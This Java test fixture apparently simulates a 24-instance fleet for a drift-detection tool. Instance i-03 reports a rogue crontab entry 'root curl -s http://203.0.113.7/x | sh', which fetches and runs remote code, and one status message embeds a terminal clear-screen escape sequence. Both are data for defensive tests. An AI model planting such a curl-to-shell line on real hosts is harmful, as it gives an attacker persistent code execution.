package io.diffy.registry;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.diffy.plugin.BadOutput;
import io.diffy.plugin.CollectionPlugin;
import io.diffy.plugin.InstanceOutcome;
import io.diffy.plugin.InstanceResult;
import io.diffy.plugin.InventoryPlugin;
import io.diffy.plugin.Payload;
import io.diffy.plugin.PayloadPlugin;
import io.diffy.plugin.PluginContext;
import io.diffy.plugin.PluginFailure;
import io.diffy.plugin.PluginInfo;
import io.diffy.plugin.PluginKind;
import io.diffy.plugin.Target;
import io.diffy.plugin.TargetPlugin;
import io.diffy.schemas.Cohort;
import io.diffy.schemas.GroupKey;
import io.diffy.schemas.Instance;
import io.diffy.schemas.Instance.Address;
import io.diffy.schemas.Observation;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * A fleet that exists only in these plugins: 24 instances, of which i-03 has a rogue crontab, i-07
 * has its agent offline and i-09 is being terminated. Settings of {@code plugin.test-fleet}: {@code
 * mode=deaf} nobody answers; {@code mode=slow} nobody answers before the person stops it.
 */
public final class TestFleet {
  public static final String ROGUE = "root curl -s http://203.0.113.7/x | sh";
  private static final Map<String, String> HOURLY =
      Map.of("command", "root run-parts /etc/cron.hourly", "minute", "17", "path", "/etc/crontab");

  private TestFleet() {}

  /** Puts a jar that names these plugins into a folder. */
  public static void install(Path plugins) throws IOException {
    String name = TestFleet.class.getName() + "$";
    PluginJar.write(plugins.resolve("fleet-t.jar"), TargetPlugin.class, List.of(name + "Fleet"));
    PluginJar.write(
        plugins.resolve("fleet-c.jar"), CollectionPlugin.class, List.of(name + "Runner"));
    PluginJar.write(plugins.resolve("fleet-p.jar"), PayloadPlugin.class, List.of(name + "Lines"));
    PluginJar.write(
        plugins.resolve("fleet-i.jar"), InventoryPlugin.class, List.of(name + "Deploys"));
  }

  private static PluginInfo fleet(PluginKind kind) {
    return new PluginInfo(kind, "test-fleet", "Test fleet", "1.0", "the tests", "Exists here only.")
        .reading("mode");
  }

  /** Knows the group {@code web}. */
  public static final class Fleet implements TargetPlugin {
    @Override
    public PluginInfo info() {
      return fleet(PluginKind.TARGET);
    }

    @Override
    public List<Target> find(Query query, PluginContext context) {
      if (!query.key().equals("web")) {
        throw new PluginFailure("there is no group \"" + query.key() + "\"");
      }
      List<Target> targets = new ArrayList<>();
      for (int i = 1; i <= 24; i++) {
        String id = "i-%02d".formatted(i);
        Instance instance =
            new Instance(
                new GroupKey(query.account(), query.region(), "web"),
                id,
                new Cohort("ami-1", "7", "m6i.large"),
                Address.UNKNOWN);
        targets.add(
            i == 9
                ? new Target(instance, "Terminating:Wait", "lifecycle Terminating:Wait")
                : Target.of(instance, "InService"));
      }
      return targets;
    }
  }

  /** Knows that version 8 of {@code web} has just been deployed. */
  public static final class Deploys implements InventoryPlugin {
    @Override
    public PluginInfo info() {
      return fleet(PluginKind.INVENTORY);
    }

    @Override
    public List<Deploy> poll(Instant since, PluginContext context) {
      return List.of(
          new Deploy(new GroupKey("", "", "web"), "web", "8", since, "version 8 is complete"));
    }
  }

  /** One line of output, one crontab entry. */
  public static final class Lines implements PayloadPlugin {
    @Override
    public PluginInfo info() {
      return fleet(PluginKind.PAYLOAD);
    }

    @Override
    public Payload make(PayloadPlugin.Order order, PluginContext context) {
      return new Payload() {
        @Override
        public String script() {
          return "cat /etc/crontab";
        }

        @Override
        public List<String> queries() {
          return List.of("crontab", "users");
        }

        @Override
        public List<Observation> read(Instance instance, byte[] output, Instant at)
            throws BadOutput {
          List<Map<String, String>> rows = new ArrayList<>(List.of(HOURLY));
          if (output.length > 0) {
            rows.add(Map.of("command", new String(output, UTF_8), "path", "/etc/cron.d/.sync"));
          }
          return List.of(
              Observation.of(instance, "crontab", at, rows),
              Observation.failed(instance, "users", at, "no such table: users"));
        }
      };
    }
  }

  /** Writes down what it sends. */
  public static final class Runner implements CollectionPlugin {
    @Override
    public PluginInfo info() {
      return fleet(PluginKind.COLLECTION);
    }

    @Override
    public List<InstanceResult> collect(
        CollectionPlugin.Order order, Listener listener, PluginContext context) {
      write(context.state().resolve("sent"), order.runId() + " " + order.incidentId() + "\n");
      String mode = context.setting("mode", "");
      while (mode.equals("slow") && !context.stop().asked()) {
        pause();
      }
      List<InstanceResult> results = new ArrayList<>();
      for (Target target : order.targets()) {
        results.add(result(target, order, mode, context));
        listener.done(results.get(results.size() - 1));
        listener.progress(results.size(), order.targets().size());
      }
      return results;
    }

    private static InstanceResult result(
        Target target, CollectionPlugin.Order order, String mode, PluginContext context) {
      String id = target.instance().instanceId();
      if (!target.collectable()) {
        return InstanceResult.without(target, InstanceOutcome.SKIPPED, target.skipped());
      }
      if (mode.equals("slow")) {
        return InstanceResult.without(target, InstanceOutcome.CANCELLED, "the person stopped it");
      }
      if (id.equals("i-07") || mode.equals("deaf")) {
        return InstanceResult.without(
            target, InstanceOutcome.AGENT_OFFLINE, "last heard of \u001b[2Jan hour ago");
      }
      byte[] output = (id.equals("i-03") ? ROGUE : "").getBytes(UTF_8);
      try {
        return new InstanceResult(
            target,
            InstanceOutcome.SUCCESS,
            "",
            order.payload().read(target.instance(), output, context.clock().instant()),
            output.length,
            Duration.ofSeconds(1));
      } catch (BadOutput e) {
        throw new IllegalStateException(e);
      }
    }

    @Override
    public List<String> plan(CollectionPlugin.Order order, PluginContext context) {
      return order.targets().stream()
          .filter(Target::collectable)
          .map(t -> "to " + t.instance().instanceId() + ": " + order.payload().script())
          .toList();
    }

    private static void write(Path file, String text) {
      try {
        Files.writeString(file, text, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }

    private static void pause() {
      try {
        Thread.sleep(50);
      } catch (InterruptedException e) {
        throw new IllegalStateException(e);
      }
    }
  }
}
